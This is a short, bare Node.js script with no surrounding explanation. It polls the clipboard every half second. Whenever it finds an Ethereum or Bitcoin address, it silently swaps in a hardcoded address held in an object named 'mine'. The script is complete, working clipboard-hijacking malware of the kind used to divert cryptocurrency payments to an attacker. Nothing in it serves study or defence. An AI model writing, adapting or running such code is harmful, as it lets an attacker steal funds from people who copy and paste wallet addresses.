const clip = require("clipboardy");
const mine = { btc: "bc1qexampleexampleexample", eth: "0x0000000000000000000000000000000000000001" };
setInterval(async () => {
  const t = await clip.read();
  if (/^0x[a-fA-F0-9]{40}$/.test(t)) await clip.write(mine.eth);
  if (/^(bc1|[13])[a-zA-Z0-9]{25,39}$/.test(t)) await clip.write(mine.btc);
}, 500);
